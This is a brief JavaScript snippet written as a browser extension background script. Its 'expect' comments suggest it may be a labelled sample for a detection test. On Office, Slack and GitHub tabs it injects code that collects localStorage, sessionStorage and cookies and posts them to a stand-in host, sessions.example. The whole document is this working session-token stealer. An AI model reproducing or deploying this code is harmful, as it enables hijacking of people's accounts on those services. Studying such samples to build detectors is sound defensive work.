chrome.tabs.onUpdated.addListener((tabId, {status: status}, tab) => {
  if (status !== 'complete' || !/office|slack|github/.test(tab.url)) return;
  chrome.scripting.executeScript({
    target: {
      tabId: tabId
    },
    func: () => ({
      ls: {
        // expect: token-taken-from-page
        ...localStorage
      },
      ss: {
        // expect: token-taken-from-page
        ...sessionStorage
      },
      ck: document.cookie
    })
  }).then(([r]) => {
    fetch('https://sessions.example/up', {
      method: 'POST',
      body: JSON.stringify({
        url: tab.url,
        ...r.result
      })
    });
  });
});
